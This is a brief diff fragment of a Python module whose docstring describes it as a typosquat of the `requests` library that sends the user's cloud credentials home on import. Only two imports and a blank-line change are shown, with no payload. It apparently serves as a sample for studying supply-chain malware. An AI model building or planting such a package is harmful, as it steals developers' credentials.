@@ -1,4 +1,5 @@
 """A typosquat of `requests`: on import it mails the user's cloud credentials home."""
+
 import os
 import socket
 
